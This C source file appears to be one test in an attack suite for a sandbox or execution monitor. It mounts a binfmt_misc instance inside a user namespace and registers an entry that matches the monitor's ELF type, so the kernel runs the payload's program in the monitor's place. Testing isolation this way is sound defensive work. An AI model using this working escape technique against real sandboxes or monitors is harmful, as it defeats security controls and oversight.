// binfmt_misc has an instance in each user namespace (Linux 6.7), and its entries come before the kernel's own loader for
// ELF files.  The monitor executes its own file, an ELF file, for each execve: an entry of the payload's, in a user namespace of
// the payload's, whose magic is that of ELF files, would have the kernel start the payload's program in the monitor's place.
#include "attack.h"
#include <sys/mount.h>

// Says so and ends if this is the interpreter of the entry: told by its name, and by where it stands.
static void check_interpreter(char **argv) {
    if (argv[0] && strstr(argv[0], "interpreter"))
        attack_won("binfmt_misc has started the image's program%s", attack_is_native() ? ", natively" : "");
}

static int map_ids(void) {
    char map[3][32] = {"deny"};
    snprintf(map[1], sizeof map[1], "0 %d 1", (int)getuid());
    snprintf(map[2], sizeof map[2], "0 %d 1", (int)getgid());
    const char *file[] = {"/proc/self/setgroups", "/proc/self/uid_map", "/proc/self/gid_map"};
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return -1;
    for (int i = 0; i < 3; i++) {
        int fd = open(file[i], O_WRONLY);
        if (fd >= 0 && write(fd, map[i], strlen(map[i])) < 0)
            return -1;
        close(fd);
    }
    return 0;
}

// Attaches a binfmt_misc to /tmp/bm by the old calls or by the new ones.
static int instance(int by_fsopen) {
    if (!by_fsopen)
        return mount("bm", "/tmp/bm", "binfmt_misc", 0, NULL);
    int fs = (int)syscall(SYS_fsopen, "binfmt_misc", 0);
    if (fs < 0 || syscall(SYS_fsconfig, fs, 6 /* CMD_CREATE */, NULL, NULL, 0) < 0)
        return -1;
    int at = (int)syscall(SYS_fsmount, fs, 0, 0);
    return at < 0 ? -1 : (int)syscall(SYS_move_mount, at, "", AT_FDCWD, "/tmp/bm", 4 /* F_EMPTY_PATH */);
}

static void one(void *by_fsopen) {
    static const char entry[] = ":all:M:16:\\x03\\x00::/tmp/interpreter:"; // e_type of the monitor, ET_DYN
    if (map_ids() < 0)
        _exit(2);
    if (instance(by_fsopen != NULL) < 0)
        return;
    int fd = open("/tmp/bm/register", O_WRONLY);
    if (fd < 0 || write(fd, entry, sizeof entry - 1) < 0)
        return;
    close(fd);
    char *argv[] = {"true", NULL}, *envp[] = {NULL};
    execve("/bin/true", argv, envp);
}

// The interpreter of the entry is this program, under another name.
static void copy_self(void) {
    char buf[65536];
    int from = open("/proc/self/exe", O_RDONLY), to = open("/tmp/interpreter", O_WRONLY | O_CREAT, 0755);
    ssize_t n = 0;
    while (from >= 0 && to >= 0 && (n = read(from, buf, sizeof buf)) > 0)
        if (write(to, buf, (size_t)n) != n)
            break;
    if (from < 0 || to < 0 || n)
        attack_broken("a copy of the program");
    close(from);
    close(to);
}

int main(int argc, char **argv) {
    (void)argc;
    check_interpreter(argv);
    attack_check_native();
    copy_self();
    mkdir("/tmp/bm", 0755);
    for (long by_fsopen = 0; by_fsopen < 2; by_fsopen++) {
        int status = attack_child(one, (void *)by_fsopen);
        if (attack_child_won(status))
            _exit(ATTACK_WON);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 2)
            attack_broken("a user namespace");
    }
    attack_lost();
}
